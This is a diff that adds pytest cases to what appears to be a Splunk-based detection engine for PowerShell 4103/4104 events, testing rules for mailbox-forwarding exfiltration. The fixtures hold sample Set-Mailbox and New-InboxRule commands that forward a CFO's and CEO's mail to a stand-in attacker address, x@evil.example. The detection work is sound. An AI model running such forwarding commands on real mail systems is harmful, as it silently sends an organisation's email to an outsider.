@@ -145,3 +145,31 @@ def test_every_shape_of_one_call_gives_the_same_events(engine):
     cmdlet = [event for event in seen[0] if event[1] == "Set-Mailbox"]
     assert cmdlet[0][2] == {"identity": "cfo", "forwardingsmtpaddress": "smtp:x@evil.example"}
     assert cmdlet[0][3] == "S-1-5-21-1-2-3-1104" and cmdlet[0][5] == "ws-9.contoso.com"
+
+
+def test_powershell_7s_4103_with_only_its_raw_is_read(engine):
+    raw = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='PowerShellCore' "
+           "Guid='{f90714a8-5509-434a-bf6d-b1624c8a19a2}'/><EventID>4103</EventID><Channel>PowerShellCore/Operational"
+           "</Channel><Computer>ws-7.contoso.com</Computer></System><EventData><Data Name='ContextInfo'>        User = "
+           "CONTOSO\\bob&#13;&#10;</Data><Data Name='UserData'></Data><Data Name='Payload'>CommandInvocation(Set-Mailbox): "
+           "&quot;Set-Mailbox&quot;&#13;&#10;ParameterBinding(Set-Mailbox): name=&quot;ForwardingSmtpAddress&quot;; "
+           "value=&quot;x@evil.example&quot;&#13;&#10;</Data></EventData></Event>")
+    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:PowerShellCore/Operational", "_raw": raw}
+    findings = engine.detect(record, use_allowlist=False)
+    assert [(f.rule.id, f.event.actor, f.event.dest) for f in findings] == [
+        ("t1114_003_mailbox_forwarding", "CONTOSO\\bob", "ws-7.contoso.com")]
+
+
+def test_one_script_run_is_two_events_and_each_gives_its_finding(engine):
+    """Script block logging (4104) and module logging (4103) of the same run are two Splunk
+    events: each gives the rule's finding, from what was written and from what ran (README)."""
+    script_block = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
+                    "EventCode": "4104", "Computer": "ws-1", "ScriptBlockText": "$p=@{Mailbox='ceo';ForwardTo="
+                    "'x@evil.example'}; New-InboxRule -Name x -ForwardTo x@evil.example"}
+    module_log = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-PowerShell/Operational",
+                  "EventCode": "4103", "Computer": "ws-1",
+                  "Payload": 'CommandInvocation(New-InboxRule): "New-InboxRule"\nParameterBinding(New-InboxRule): '
+                             'name="Name"; value="x"\nParameterBinding(New-InboxRule): name="ForwardTo"; '
+                             'value="x@evil.example"\n'}
+    for record in (script_block, module_log):
+        assert "t1114_003_inbox_rule_forward_cmdlet" in [f.rule.id for f in engine.detect(record, use_allowlist=False)]
